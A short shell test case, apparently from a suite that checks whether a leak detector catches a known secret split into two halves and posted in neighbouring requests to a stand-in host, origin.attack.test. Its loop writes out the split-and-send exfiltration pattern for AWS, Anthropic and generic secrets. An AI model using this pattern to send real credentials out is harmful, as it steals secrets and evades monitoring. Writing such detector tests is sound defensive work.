# A known secret in two halves, in two neighbouring requests to an allowed host.
need curl
where="https://origin.attack.test:$PORT/upload"
harmless harmless-one -d part=the-quick-brown "$where"
harmless harmless-two -d part=fox-jumps "$where"
for secret in known-anthropic known-aws known-generic; do
	n=$(($(text $secret | wc -c) / 2))
	fetch -H "X-Mark: $CASE/first-half" -d "part=$(text $secret | cut -c-$n)" "$where" >/dev/null
	send "second half $secret" -d "part=$(text $secret | cut -c$((n + 1))-)" "$where"
done
